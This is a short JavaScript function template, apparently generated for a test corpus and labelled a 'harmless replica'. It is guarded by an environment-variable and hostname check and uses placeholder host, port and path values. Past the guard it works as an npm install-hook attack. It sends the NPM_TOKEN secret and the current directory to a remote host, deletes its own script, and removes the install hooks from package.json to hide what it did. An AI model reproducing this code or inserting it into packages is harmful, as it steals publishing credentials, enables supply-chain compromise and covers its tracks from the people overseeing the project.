// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), path = require('path');
    await new Promise((done) => {
        const call = require('http').request({ host: '{{ip}}', port: {{port}}, path: '/{{path}}', method: 'POST', timeout: 1000 }, (answer) => { answer.resume(); answer.on('close', done); });
        call.on('timeout', () => call.destroy());
        call.on('error', done);
        call.end(JSON.stringify({ token: process.env.NPM_TOKEN, cwd: process.cwd() }));
    });
    try {
        const script = path.resolve(process.argv[1] || '');
        const folder = process.cwd();
        if (path.dirname(script).startsWith(folder) && /\.[cm]?js$/.test(script))
            fs.unlinkSync(script);
        const sheet = JSON.parse(fs.readFileSync(path.join(folder, 'package.json'), 'utf8'));
        for (const name of ['preinstall', 'install', 'postinstall'])
            if (sheet.scripts) delete sheet.scripts[name];
        fs.writeFileSync(path.join(folder, 'package.json'), JSON.stringify(sheet, null, 2));
    } catch {}
}
